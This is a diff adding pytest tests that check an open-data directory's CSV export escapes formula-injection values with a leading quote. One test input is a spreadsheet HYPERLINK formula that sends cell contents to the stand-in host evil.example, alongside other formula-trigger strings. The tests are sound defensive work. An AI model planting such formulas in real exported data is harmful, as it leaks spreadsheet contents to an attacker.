@@ -13,6 +13,7 @@ import pytest
 from sqlmodel import Session
 
 from directory import catalogue
+from directory.models import Organisation
 from directory.opendata import hsds, hsds_schema, ourjson, tabular
 from directory.records import OrganisationRecord
 from directory.web import presenters
@@ -322,6 +323,32 @@ def test_csv_joins_lists_and_writes_plain_values():
     assert row["verified_on"] == "2026-01-02"
     assert row["latitude"] == "55.86"
     assert tabular.row(factories.record(region=None))[tabular.COLUMNS.index("region")] == ""
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
+
+
+@pytest.mark.parametrize(
+    "value", [FORMULA, "+1+1", "-1+1", "@SUM(1,1)", "\tx=1", "\rx=1", "=1\n2", "'=kept"]
+)
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_with_a_quote(value):
+    organisation = Organisation(**{**full_record().model_dump(), "name": value})
+    out = io.StringIO(newline="")
+    tabular.write([organisation], out)
+    header, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    cells = dict(zip(header, row, strict=True))
+    expected = "'" + value  # one more in front of a quote too, so readers can take it off
+    assert cells["name"] == expected
+    assert '"' + expected.replace('"', '""') + '"' in out.getvalue()  # quoted, as OWASP says
+
+
+def test_csv_escapes_lists_by_their_first_item_and_leaves_numbers_alone():
+    record = full_record(alternate_names=["-Minus Group", "=Equals"], longitude=-4.25)
+    row = dict(zip(tabular.COLUMNS, tabular.row(record), strict=True))
+    assert row["alternate_names"] == "'-Minus Group | =Equals"
+    assert row["longitude"] == "-4.25"  # a number, not a formula: kept for spreadsheets
+    assert row["latitude"] == "55.86"
+    assert row["name"] == record.name
 
 
 # The HSDS API --------------------------------------------------------------------------------
